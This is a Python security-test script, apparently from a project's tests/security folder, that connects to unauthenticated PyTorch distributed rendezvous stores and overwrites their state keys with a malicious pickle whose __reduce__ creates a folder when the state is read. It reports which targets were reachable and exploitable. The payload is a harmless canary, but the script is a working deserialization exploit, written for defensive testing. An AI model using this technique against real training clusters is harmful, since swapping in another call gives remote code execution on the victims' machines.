"""A stranger: replaces the state of a rendezvous by a pickle that makes a folder when it is read.

python -m tests.security.stranger FOLDER ADDRESS:PORT ...        # JSON: how far it came at each
"""

from __future__ import annotations

import base64
import contextlib
import json
import os
import pickle
import socket
import sys
from pathlib import Path
from typing import Any

from torch.distributed.elastic.rendezvous.api import RendezvousConnectionError

from tests.security import listeners

_SECONDS = 3.0  # in which a connection is there, or is not


class _Evil:
    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.mkdir, (str(self.path),))


def evil(path: Path) -> bytes:
    """A pickle that makes a folder when it is read."""
    return pickle.dumps(_Evil(path))


def attack(address: str, port: int, trap: Path) -> dict[str, Any]:
    """Tries torch's store, and the store of launchers without a token.

    Returns whether the port was "reached", whether torch's "store" answers there, the keys that were
    "replaced" in it, and whether the pickle was "stored" in a store of launchers.
    """
    told: dict[str, Any] = {"reached": True, "store": False, "replaced": [], "stored": False}
    try:
        socket.create_connection((address, port), _SECONDS).close()
    except OSError:
        return told | {"reached": False}
    data = base64.b64encode(evil(trap))
    store = listeners.store_at(address, port)
    if store is not None:
        keys = [key for key in store.list_keys() if "torch.rendezvous." in key and key.count("/") <= 1]
        for key in keys:
            store.set(key.removeprefix("/"), data)
        return told | {"store": True, "replaced": keys}
    with contextlib.suppress(ImportError, RuntimeError, RendezvousConnectionError):
        from unicomm.launch.rendezvous.client import LaunchersStore

        # torchrun's default name of a rendezvous is "none".
        LaunchersStore(address, port, "", _SECONDS).set("torch.rendezvous.none", data)
        return told | {"stored": True}
    return told


def main() -> None:
    trap, *targets = sys.argv[1:]
    told = {}
    for target in targets:
        address, _, port = target.rpartition(":")
        told[target] = attack(address, int(port), Path(trap))
    print(json.dumps(told))


if __name__ == "__main__":
    main()
